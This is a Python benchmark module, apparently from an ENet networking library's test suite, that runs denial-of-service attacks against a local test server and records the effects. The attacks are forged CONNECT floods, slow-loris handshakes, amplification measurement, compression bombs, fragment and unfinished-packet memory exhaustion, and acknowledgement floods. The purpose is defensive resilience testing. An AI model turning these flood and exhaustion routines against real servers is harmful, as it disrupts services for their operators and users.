"""One function for each attack: it attacks a server for some seconds and returns the effects."""

from __future__ import annotations

import json
import os
import random
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Any

from benchmarks.attacks import wire
from benchmarks.recovery import Ours

__all__ = [
    "Attack",
    "Server",
    "acknowledgements",
    "amplification",
    "bombs",
    "connect_flood",
    "forgers",
    "fragments",
    "garbage",
    "intruder",
    "slow_loris",
    "started",
    "unfinished_packets",
]

TIMEOUT = 10.0
FLOOD = 5000
"""Forged CONNECTs a second."""
ADDRESSES = 250
UNFINISHED = 24_000
"""Numbers within the window that a receiver accepts."""


class Server:
    """A server in another process."""

    def __init__(self, process: subprocess.Popen[str]) -> None:
        assert process.stdin is not None
        assert process.stdout is not None
        self._in, self._out = process.stdin, process.stdout
        self.port = int(self._out.readline())
        self.address = ("127.0.0.1", self.port)

    def look(self) -> dict[str, Any]:
        """Its state: CONNECT events, peers, memory gained, datagrams, CPU seconds in all, of turns, of the longest."""
        return self._ask("\n")

    def look_on(self) -> dict[str, Any]:
        """The same, without resetting the longest turn."""
        return self._ask("on\n")

    def _ask(self, line: str) -> dict[str, Any]:
        self._in.write(line)
        self._in.flush()
        state: dict[str, Any] = json.loads(self._out.readline())
        return state


Attack = Callable[[Server, float], dict[str, float]]


@contextmanager
def started(name: str, *arguments: str) -> Iterator[Server]:
    """A server that runs until the block ends."""
    command = [sys.executable, "-m", "benchmarks.attacks.server", name, *arguments]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        try:
            yield Server(process)
        finally:
            process.kill()


def forgers(count: int = ADDRESSES) -> list[socket.socket]:
    """Sockets at many addresses of this machine that simulate forged ones: nobody reads the answers."""
    sockets = []
    for number in range(count):
        plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        plain.bind((f"127.{1 + number % 200}.{number // 200}.7", 0))
        plain.setblocking(False)
        sockets.append(plain)
    return sockets


def close(sockets: list[socket.socket]) -> None:
    for plain in sockets:
        plain.close()


def connect_flood(
    server: Server, seconds: float, rate: int = FLOOD, after: float = 1.0, *, until_connected: bool = False
) -> dict[str, float]:
    """Forged CONNECTs at a rate; an honest client connects ``after`` some seconds. ``nan``: it did not connect.

    ``until_connected`` ends the flood as soon as it is connected.
    """
    sockets = forgers()
    begin, sent, honest, connected = time.monotonic(), 0, None, float("nan")
    asked = 0.0
    try:
        while (now := time.monotonic()) - begin < seconds:
            while sent < (now - begin) * rate:
                with suppress(BlockingIOError):
                    sockets[sent % ADDRESSES].sendto(wire.connect(sent), server.address)
                sent += 1
            if honest is None and now - begin > after:
                honest, asked = Ours(False), now
                honest.connect(server.port)
            if honest is not None and connected != connected:
                honest.poll()
                if honest.up and server.look()["joined"]:
                    connected = time.monotonic() - asked
                    if until_connected:
                        break
            time.sleep(0.001)
    finally:
        close(sockets)
        if honest is not None:
            honest.close()
    return {"rate": sent / (time.monotonic() - begin), "connected": connected}


def slow_loris(server: Server, seconds: float) -> dict[str, float]:
    """Start twenty handshakes a second and never finish them; 32 slots would be taken by then."""
    return connect_flood(server, seconds, rate=20, after=2.0)


def amplification(server: Server, seconds: float, count: int = 32) -> dict[str, float]:
    """Send forged CONNECTs, and count the answered bytes while ENet repeats its answers."""
    sockets = forgers(count)
    request = wire.connect(7)
    for plain in sockets:
        plain.sendto(request, server.address)
    time.sleep(seconds)
    answered = 0
    for plain in sockets:
        with suppress(BlockingIOError):
            while True:
                answered += len(plain.recv(4096))
    close(sockets)
    return {"ratio": answered / (count * len(request))}


def flood(server: Server, datagrams: list[bytes], seconds: float, plain: socket.socket) -> dict[str, float]:
    """Send datagrams as fast as possible; returns the datagrams processed by the server and their cost."""
    before, begin, sent = server.look(), time.monotonic(), 0
    while time.monotonic() - begin < seconds:
        for data in datagrams:
            with suppress(BlockingIOError, ConnectionRefusedError):
                plain.sendto(data, server.address)
        sent += len(datagrams)
    after = server.look()
    taken, cpu = after["received"] - before["received"], after["cpu"] - before["cpu"]
    return {
        "sent": sent / seconds,
        "taken": taken / seconds,
        "a cpu second": taken / cpu if cpu else 0.0,
        "memory": after["memory"],
        "longest": after["longest"],
    }


def garbage(server: Server, seconds: float) -> dict[str, float]:
    """Noise of all lengths, and datagrams to peers that do not exist."""
    chance = random.Random(1)
    noise = [chance.randbytes(chance.randrange(1, 200)) for _ in range(150)]
    noise += [wire.to_peer(chance.randrange(4095), 0, 0, wire.ping(1)) for _ in range(50)]
    # None is marked as compressed: that is another attack.
    datagrams = [bytes((data[0] & 0xBF,)) + data[1:] for data in noise]
    (plain,) = forgers(1)
    result = flood(server, datagrams, seconds, plain)
    plain.close()
    return result


def bombs(server: Server, seconds: float) -> dict[str, float]:
    """Compressed datagrams from unknown addresses that would expand to 4 KB."""
    from godot_enet.core.compression import RangeCoder

    packed = RangeCoder().compress(wire.connect(1)[4:] + bytes(4000), 4096)
    assert packed is not None
    (plain,) = forgers(1)
    result = flood(server, [b"\xcf\xff\0\0" + packed] * 50, seconds, plain)
    plain.close()
    return result


@contextmanager
def intruder(server: Server, unpack: Callable[[bytes], bytes] = bytes) -> Iterator[tuple[socket.socket, int, int]]:
    """Connect by hand as an attacker. Returns the socket, the slot and the session.

    ``unpack`` converts a compressed answer, or one with a checksum, to a plain one.
    """
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plain.bind(("127.0.0.1", 0))
    plain.settimeout(TIMEOUT)
    plain.sendto(wire.connect(int.from_bytes(os.urandom(4), "big")), server.address)
    while (answer := wire.read_verify(unpack(plain.recv(4096)))) is None:
        continue
    slot, session, number, sent_time = answer
    plain.sendto(wire.to_peer(slot, session, 0, wire.acknowledge(number, sent_time)), server.address)
    plain.setblocking(False)
    yield plain, slot, session
    plain.close()


def fragments(server: Server, seconds: float) -> dict[str, float]:
    """A peer that sends only one fragment of each of many packets of 30 MB."""
    with intruder(server) as (plain, slot, session):
        datagrams = [wire.to_peer(slot, session, 0, wire.fragment(number, 30 << 20)) for number in range(1, 2000)]
        return flood(server, datagrams, seconds, plain)


def unfinished_packets(server: Server, seconds: float, count: int = 31) -> dict[str, float]:
    """Peers that each send one of two fragments of thousands of packets: received fragments must be buffered."""
    with ExitStack() as stack:
        sources = [stack.enter_context(intruder(server)) for _ in range(count)]
        begin, sent, number = time.monotonic(), 0, 1
        while time.monotonic() - begin < seconds and number < UNFINISHED:
            number += 2
            for plain, slot, session in sources:
                with suppress(BlockingIOError):
                    plain.sendto(wire.to_peer(slot, session, 0, wire.fragment(number, 2048)), server.address)
            sent += count
            if number % 8 == 1:
                time.sleep(0.001)  # data that does not fit into the socket buffer would be lost
        time.sleep(0.2)
        return {"sent": sent / seconds, "memory": server.look()["memory"]}


def acknowledgements(server: Server, seconds: float) -> dict[str, float]:
    """A peer that sends 500 acknowledgements of unsent commands in each datagram."""
    with intruder(server) as (plain, slot, session):
        commands = [wire.acknowledge(number, 0, channel=0) for number in range(1000, 1500)]
        return flood(server, [wire.to_peer(slot, session, 0, *commands)] * 20, seconds, plain)
